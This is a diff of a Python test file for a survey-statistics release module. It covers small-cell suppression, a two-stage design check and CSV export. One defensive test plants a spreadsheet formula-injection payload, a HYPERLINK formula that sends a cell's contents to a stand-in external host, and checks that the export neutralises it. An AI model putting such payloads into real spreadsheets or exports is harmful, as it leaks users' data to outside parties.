@@ -24,11 +24,11 @@ import pytest
 from numpy.typing import NDArray
 from scipy import stats
 from scipy.special import expit, logit
-from sqlalchemy import String, cast, literal, select, update
+from sqlalchemy import String, cast, literal, update
 from sqlmodel import Session, col
 
 from survey.errors import Conflict, InvalidInput
-from survey.models import Campaign, Dossier, Draw, IndexRelease, Invitation, Response, SampleUnit
+from survey.models import Campaign, Dossier, Draw, IndexRelease, Response
 from survey.releases import (
     compute_release,
     get_release,
@@ -161,22 +161,14 @@ def test_two_stage_design_uses_ultimate_clusters(session: Session) -> None:
         },
     }
     session.add(draw)
-    # Four communes per stratum, by dossier id.
+    # Four communes per stratum, by dossier id, copied to the responses as a start would.
     session.execute(
         update(Dossier).values(commune_code=literal("X") + cast(Dossier.id % 4, String))
     )
+    communes = [f"X{dossier_id % 4}" for dossier_id in rc.dossier_ids]
+    for response_id, commune in zip(rc.response_ids, communes, strict=True):
+        session.execute(update(Response).where(col(Response.id) == response_id).values(psu=commune))
     session.commit()
-    communes = [
-        str(c)
-        for (c,) in session.execute(
-            select(Dossier.commune_code)
-            .join(SampleUnit, col(SampleUnit.dossier_id) == col(Dossier.id))
-            .join(Invitation, col(Invitation.sample_unit_id) == col(SampleUnit.id))
-            .join(Response, col(Response.invitation_id) == col(Invitation.id))
-            .where(col(Response.status) == "completed")
-            .order_by(col(Response.id))
-        ).all()
-    ]
     release = compute_release(
         session=session, campaign_id=rc.campaign_id, name="pps", by=[], min_respondents=5
     )
@@ -375,3 +367,60 @@ def test_geo_mapping_errors_name_the_field(session: Session) -> None:
             )
         assert error.value.problems[0].loc[0] == "geo_mapping"
         assert message in error.value.problems[0].msg
+
+
+def test_cells_of_fewer_than_five_respondents_are_suppressed_whatever_the_rule(
+    session: Session,
+) -> None:
+    spec = {**STRATA, "E": ("AG-E", "01", 40, 8, 4)}  # four respondents: below k = 5
+    rc = build_release_campaign(session, strata_spec=spec)
+    release = compute_release(
+        session=session, campaign_id=rc.campaign_id, name="r", by=["agency_code"], min_respondents=0
+    )
+    rows = [r for r in release.results["rows"] if r["domain"].get("agency_code") == "AG-E"]
+    assert rows and all(r["flag"] == "suppressed" and r["estimate"] is None for r in rows)
+    assert all(r["n_respondents"] <= 4 for r in rows)
+    assert "AG-E" not in {r["agency_code"] for r in release.results["ranking"]}
+    assert release.parameters["disclosure"]["k"] == 5
+    shown = [r for r in release.results["rows"] if r["estimate"] is not None]
+    assert shown and all(r["n_respondents"] >= 5 for r in shown)
+
+
+def test_a_two_stage_release_refuses_responses_without_their_first_stage_unit(
+    session: Session,
+) -> None:
+    rc = build_release_campaign(session)
+    campaign = session.get(Campaign, rc.campaign_id)
+    assert campaign is not None
+    draw = session.get(Draw, campaign.draw_id)
+    assert draw is not None
+    draw.design_snapshot = {
+        **draw.design_snapshot,
+        "design": {"selection": "pps", "psu_column": "commune_code"},
+    }
+    session.add(draw)
+    session.execute(update(Response).where(col(Response.id) != rc.response_ids[0]).values(psu="X1"))
+    session.commit()
+    with pytest.raises(InvalidInput) as error:
+        compute_release(session=session, campaign_id=rc.campaign_id, name="pps", by=[])
+    assert error.value.problems[0].loc == ("campaign_id",)
+    assert "1 completed responses do not record their commune_code" in error.value.problems[0].msg
+
+
+def test_release_csv_neutralises_formula_like_domain_values(session: Session) -> None:
+    rc = build_release_campaign(session)
+    # An agency wrote a formula as its procedure field in the imported frame.
+    session.execute(
+        update(Response)
+        .where(col(Response.campaign_id) == rc.campaign_id)
+        .values(procedure_field='=HYPERLINK("http://x.example/?"&A1,"OK")')
+    )
+    session.commit()
+    release = compute_release(
+        session=session, campaign_id=rc.campaign_id, name="r", by=["procedure_field"]
+    )
+    table = list(csv.DictReader(io.StringIO(release_csv(release))))
+    fields = {r["procedure_field"] for r in table if r["procedure_field"]}
+    assert fields == {'\'=HYPERLINK("http://x.example/?"&A1,"OK")'}
+    figures = [r["estimate"] for r in table if r["estimate"]]
+    assert figures and all(float(v) >= 0 for v in figures)  # numbers are left as numbers
